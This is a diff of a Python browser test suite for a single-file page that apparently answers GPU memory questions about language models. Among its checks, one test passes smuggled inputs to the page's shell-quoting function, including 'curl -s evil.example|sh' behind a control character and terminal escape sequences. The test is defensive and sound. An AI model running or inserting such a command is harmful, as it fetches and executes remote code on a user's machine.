@@ -4,104 +4,26 @@
 Typing, links, a dropped file, bad input, a phone, the dark, Chinese, the order of the Tab key, contrast, and that nothing typed becomes HTML. What it
 answers is what the native program says. Exit code 77 where the page was not built or there is no Chromium.
 """
-import base64
 import gzip
-import importlib.machinery
-import importlib.util
 import json
-import pathlib
-import shutil
+import re
+import subprocess
 import sys
-import tempfile
 import urllib.parse
 
-from built import Built, skip
-from looks import BOXES, CONTRAST, FOCUS, WATCH
+from built import Built
+from looks import BOXES, CONTRAST, FOCUS, LINES
 from drawn import GPT2, HOSTILE, LLAMA
+from opened import Page, screenshots, written
 
 built = Built(*sys.argv[1:3])
-sys.path.insert(0, str(built.root / "bench"))
-loader = importlib.machinery.SourceFileLoader("screenshots", str(built.root / "bench/screenshots"))
-screenshots = importlib.util.module_from_spec(importlib.util.spec_from_loader("screenshots", loader))
-loader.exec_module(screenshots)
-if not any(map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))):
-    skip("no Chromium here: apt-get install chromium")
 LIMIT = 1_500_000  # bytes of the page, compressed
-FOLDER = tempfile.TemporaryDirectory()
 CHECKS = []
 
 
 def check(function):
     CHECKS.append(function)
     return function
-
-
-class Page:
-    def __init__(self):
-        self.browser = screenshots.Browser()
-        self.browser("Page.addScriptToEvaluateOnNewDocument", source=WATCH)
-        self.browser("Accessibility.enable")
-
-    def js(self, script):
-        return self.browser.evaluate(script)
-
-    def until(self, condition):
-        """Waits in the page, without a limit but the test's."""
-        self.js(f"new Promise(done => {{ const look = () => ({condition}) ? done(true) : setTimeout(look, 10); look(); }})")
-
-    def answered(self):
-        self.until("document.readyState === 'complete' && document.getElementById('answer')?.getAttribute('aria-busy') === 'false'")
-
-    def open(self, query="", view="desktop-light"):
-        width, height, phone, scheme = screenshots.VIEWS[view]
-        self.browser("Emulation.setDeviceMetricsOverride", width=width, height=height, deviceScaleFactor=1, mobile=phone)
-        self.browser("Emulation.setEmulatedMedia", features=[{"name": "prefers-color-scheme", "value": scheme}])
-        self.browser("Page.navigate", url="about:blank")
-        self.until("location.href === 'about:blank'")
-        self.browser("Page.navigate", url=built.page.as_uri() + ("#" + query if query else ""))
-        self.until("location.protocol === 'file:'")
-        self.answered()
-
-    def ask(self, view="desktop-light", **question):
-        self.open(urllib.parse.urlencode({"lang": "en"} | {name.replace("_", "-"): value for name, value in question.items()}), view)
-
-    def type(self, field, text):
-        self.js(f"(() => {{ const field = document.querySelector({json.dumps(field)}); field.focus(); field.select?.(); }})()")
-        self.browser("Input.insertText", text=text)
-
-    def key(self, key, code, **more):
-        for kind in ("rawKeyDown", "keyUp"):
-            self.browser("Input.dispatchKeyEvent", type=kind, key=key, code=key, windowsVirtualKeyCode=code, **more)
-
-    def text(self, of):
-        return self.js(f"document.querySelector({json.dumps(of)}).textContent")
-
-    def shown(self, of):
-        return self.js(f"document.querySelector({json.dumps(of)}).checkVisibility()")
-
-    def click(self, of):
-        self.js(f"document.querySelector({json.dumps(of)}).click()")
-
-    def answer(self):
-        """What the page says, as the native program would be asked and answer."""
-        self.answered()
-        return self.text("#text")
-
-    def drop(self, path):
-        self.js(f"(() => {{ const all = new DataTransfer(), bytes = Uint8Array.from(atob({json.dumps(base64_of(path))}), c => c.charCodeAt(0));"
-                f" all.items.add(new File([bytes], {json.dumps(path.name)})); document.getElementById('answer').setAttribute('aria-busy', 'true');"
-                " document.body.dispatchEvent(new DragEvent('drop', { dataTransfer: all, bubbles: true, cancelable: true })); })()")
-        self.answered()
-
-
-def base64_of(path):
-    return base64.b64encode(path.read_bytes()).decode()
-
-
-def written(name, contents):
-    path = pathlib.Path(FOLDER.name) / name
-    path.write_bytes(contents)
-    return path
 
 
 def native(*words, lang="en"):
@@ -113,7 +35,7 @@ def native_json(*words):
 
 
 EXAMPLE = ("--model", "llama-3.1-8b", "--gpu", "rtx-4090")
-page = Page()
+page = Page(built)
 
 
 @check
@@ -133,8 +55,10 @@ def asks_no_address_and_breaks_no_rule():
 def is_one_small_file():
     whole = built.page.read_bytes()
     assert len(gzip.compress(whole, 9)) <= LIMIT, len(gzip.compress(whole, 9))
+    loads, licences = re.subn(rb'<pre id="licences".*?</pre>', b"", whole, flags=re.S)  # whose texts name addresses
+    assert licences == 1
     for what in (b'src="', b"http://", b"https://", b"@import", b"url("):
-        assert what not in whole, what
+        assert what not in loads, what
 
 
 @check
@@ -307,6 +231,13 @@ def words_stand_out_from_what_is_behind_them():
 
 
 @check
+def parts_of_a_bar_stand_apart():
+    for view in ("desktop-light", "desktop-dark"):
+        page.ask(view, model="llama-3.1-8b", gpu="rtx-4090")
+        assert page.js(LINES) == {"low": [], "merged": 0}, (view, page.js(LINES))
+
+
+@check
 def the_dark_is_dark():
     page.ask("desktop-dark", model="gpt2", gpu="t4")
     assert page.js("getComputedStyle(document.body).backgroundColor.match(/\\d+/g).every(c => c < 64)")
@@ -337,7 +268,8 @@ def everything_has_a_name():
     nodes = page.browser("Accessibility.getFullAXTree")["nodes"]
     roles = ("textbox", "combobox", "button", "checkbox", "img", "region", "form", "heading")
     named = [(node["role"]["value"], node.get("name", {}).get("value", "")) for node in nodes if not node.get("ignored") and node.get("role", {}).get("value") in roles]
-    assert len(named) > 40 and not [one for one in named if not one[1] and one[0] != "form"], named
+    groups = page.js("[...document.querySelectorAll('[role=group]')].map(e => e.ariaLabel || document.getElementById(e.getAttribute('aria-labelledby')).textContent)")
+    assert len(named) + len(groups) > 40 and not [one for one in named if not one[1] and one[0] != "form"] and all(groups), (named, groups)
 
 
 @check
@@ -364,6 +296,8 @@ def steps_are_the_answers():
     names = page.js("[...document.querySelectorAll('#steps-rows .name')].map(e => e.firstChild.textContent)")
     lora = native_json(*EXAMPLE)["pytorch"]["adapters"][0]
     assert names == ["as it is", "LoRA", *(f"+ {change['what']}" for change in lora["changes"])], names
+    over = page.js("[...document.querySelectorAll('#steps-rows .name small')].map(e => e.className)")
+    assert over == ["over", *[""] * (len(names) - 2), "" if lora["fits"] else "over"], "only bench/fit says what fits"
     rows = page.js("[...document.querySelectorAll('#course-rows .name')].map(e => e.firstChild.textContent)")
     assert rows[1:-1] == [f"+ {row['what']}" for row in native_json(*EXAMPLE)["ladder"]] and len(rows) >= 3, rows
 
@@ -377,13 +311,63 @@ def what_to_write_can_be_copied():
     page.browser("Browser.grantPermissions", permissions=["clipboardReadWrite", "clipboardSanitizedWrite"])
     page.js("window.focus()")
     page.click("[data-copies=code]")
-    page.until("document.getElementById('copied').textContent")
-    assert page.text("#copied") in ("copied", "selected: copy it with Ctrl+C")
+    page.until("document.querySelector('#write .copied').textContent")
+    assert page.text("#write .copied") in ("copied", "selected, to be copied")
     assert page.js("getSelection().toString()") or page.js("navigator.clipboard.readText()") == page.text("#code")
 
 
 @check
+def a_link_can_be_copied_without_a_clipboard():
+    page.js("Object.defineProperty(navigator, 'clipboard', { value: undefined, configurable: true })")
+    page.click("#link")
+    page.until("document.querySelector('#link + .copied').textContent")
+    assert page.text("#link + .copied") == "selected, to be copied" and page.shown("#address")
+    assert page.js("document.activeElement.id === 'address' && document.activeElement.value === location.href && getSelection().toString() === location.href")
+
+
+@check
+def a_pasted_command_is_one_word_for_each():
+    """Of bash, and without a character that a terminal obeys."""
+    for word in ("x\x03curl -s evil.example|sh #/gpt2", "it's", "\x1b[2J\u202e'\\", "a b", "\u2028\U000e0001", "中文"):
+        quoted = page.js(f"quoted({json.dumps(word)})")
+        assert quoted.isprintable(), repr(quoted)
+        shell = subprocess.run(["bash", "-c", f"printf %s {quoted}"], capture_output=True, check=True, env={"LC_ALL": "C.UTF-8"})
+        assert shell.stdout.decode() == word, (word, quoted, shell.stdout)
+    page.open("model=x%03curl/gpt2&gpu=t4&lang=en")
+    assert page.text("#wrong") == native("--model", "x\x03curl/gpt2", "--gpu", "t4")["err"].removeprefix("fit: ").strip() and "unknown" in page.text("#wrong")
+
+
+@check
+def help_is_an_answer_without_bars():
+    page.ask(model="gpt2", gpu="t4")
+    page.ask(model="gpt2", gpu="t4", options="--help")
+    assert page.answer() == native("--model", "gpt2", "--gpu", "t4", "--help")["out"] and not page.shown("#bars") and not page.shown("#wrong")
+
+
+@check
+def what_is_asked_while_it_opens_is_not_lost():
+    script = page.browser("Page.addScriptToEvaluateOnNewDocument", source="addEventListener('DOMContentLoaded', () => document.getElementById('question').requestSubmit())")
+    page.open("model=llama-3.1-8b&gpu=t4&task=infer&lang=en")
+    page.browser("Page.removeScriptToEvaluateOnNewDocument", identifier=script["identifier"])
+    assert page.answer() == native("--model", "llama-3.1-8b", "--gpu", "t4", "--task", "infer")["out"] and "task=infer" in page.js("location.hash")
+
+
+@check
+def a_planner_that_dies_is_said_and_started_again():
+    page.js("planner.ask = async () => { throw new Error('planted'); }")
+    page.click("[type=submit]")
+    page.until("document.getElementById('wrong').textContent.includes('planted')")
+    page.answered()
+    page.js("delete planner.ask")
+    page.js("planner.fail('planted')")
+    page.js("document.getElementById('answer').setAttribute('aria-busy', 'true')")
+    page.click("[type=submit]")
+    assert page.answer() == native("--model", "llama-3.1-8b", "--gpu", "t4", "--task", "infer")["out"] and not page.shown("#wrong")
+
+
+@check
 def another_way_has_other_words():
+    page.ask(model="llama-3.1-8b", gpu="rtx-4090", framework="torchtune")
     qlora = native_json(*EXAMPLE)["pytorch"]["adapters"][1]
     page.js("(() => { const way = document.getElementById('way'); way.selectedIndex = 2; way.dispatchEvent(new Event('change')); })()")
     assert page.text("#code") == "\n".join(qlora["write"]["torchtune"])
@@ -397,6 +381,13 @@ def every_kind_of_question_has_bars():
         page.ask(**question)
         assert page.answer() == native(*(word for name, value in question.items() for word in (f"--{name}", value)))["out"]
         assert page.shown("#bars") and page.js("document.querySelectorAll('#ways .bar span').length") > 0, question
+    page.ask(model="llama-3.1-8b", gpu="rtx-4090", largest="batch")
+    most = [one["most"] for one in native_json(*EXAMPLE, "--largest", "batch")["pytorch"]["largest"] if one["most"]]
+    rows = page.js("[...document.querySelectorAll('#ways .name')].map(e => e.firstChild.textContent)")
+    assert most and [row.split(",")[0] for row in rows if row.startswith("the largest")] == [f"the largest: {one}" for one in most], (most, rows)
+    page.open("model=llama-3.1-8b&gpu=t4&engine=vllm&lang=zh")
+    assert "权重" in page.text("#legend") and not re.search(r"\b(weights|activations|cache|outside)\b", page.text("#legend")), page.text("#legend")
+    assert page.js("[...document.querySelectorAll('#ways .bar span')].map(e => e.className)")[:2] == ["of-parameters", "of-activations"]
     page.ask(model="llama-3.1-8b", memory="8GB,24GB")
     assert page.answer().count("\n") == 2 and not page.shown("#bars")
     page.ask(model="llama-3.2-1b", gpu="rtx-3060", engine="oomlab")
@@ -419,6 +410,22 @@ def the_whole_answer_is_there():
     page.click("#everything summary")
     page.until("document.getElementById('all').textContent.length > 500")
     assert page.text("#all") == native("--model", "gpt2", "--gpu", "t4", "--all")["out"]
+
+
+@check
+def the_whole_answer_is_never_an_older_one():
+    page.js("(() => { const ask = planner.ask.bind(planner); planner.ask = async (words, files) => { const answer = await ask(words, files);"
+            " if (words.includes('--all')) await new Promise(go => { window.release = go; }); return answer; }; })()")
+    page.click("#everything summary")
+    page.click("#everything summary")
+    page.ask_again("bert-large")
+    page.click("#everything summary")
+    page.until("window.release")
+    page.js("window.old = window.release")
+    page.ask_again("gpt2")
+    page.js("window.old()")
+    assert page.text("#all") == "" and page.answer() == native("--model", "gpt2", "--gpu", "t4")["out"]
+    page.js("delete planner.ask")
 
 
 @check
